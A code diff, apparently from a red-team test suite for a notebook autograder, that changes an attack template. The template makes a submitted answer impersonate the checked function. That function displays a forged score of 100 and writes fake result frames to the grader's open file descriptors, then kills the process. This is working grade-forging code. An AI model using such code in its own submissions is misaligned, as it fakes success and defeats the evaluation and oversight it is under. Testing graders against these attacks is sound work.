@@ -12,6 +12,7 @@ STOP = "stopping the grader"
 MEMORY = "the grader's memory"
 
 FORGE = """
+import json, os
 from IPython.display import display
 from course_lib.check import MIME
 from course_lib.reference import load
@@ -21,9 +22,19 @@ NAMES = load("VICTIM").returns
 
 def values(value): return {"values": dict.fromkeys(NAMES, value), "problem": None}
 
-def check(name):
-    display({MIME: {"exercise": name, "outcomes": PAYLOAD}, "text/plain": "100"}, raw=True)
+def VICTIM(*args, **more):
+    data = {MIME: {"exercise": "VICTIM", "outcomes": PAYLOAD}, "text/plain": "100"}
+    display(data, raw=True)
+    output = {"output_type": "display_data", "data": data, "metadata": {}}
+    frame = json.dumps({"cell": 0, "number": 1, "outputs": [output], "seconds": 0}).encode()
+    for descriptor in range(3, 60):
+        try:
+            for start in range(0, len(frame), 2**16):
+                os.write(descriptor, (b"%08x" % len(frame) if start == 0 else b"") + frame[start:start + 2**16])
+        except OSError: pass
+    os._exit(0)
 """
+"""The answer itself puts it out, when the check calls it: no cell of the notebook runs as late as that."""
 
 PAYLOADS = {
     "zeros of the right count": (POINTS, "[values(0.0)] * CASES"),
@@ -165,7 +176,7 @@ def _bombing(pieces: str) -> Callable[[Draft], None]:
 
 
 def _forging(payload: str) -> Callable[[Draft], None]:
-    return lambda draft: draft.add(FORGE.replace("PAYLOAD", payload))
+    return lambda draft: draft.answer(FORGE.replace("PAYLOAD", payload))
 
 
 ATTACKS = [
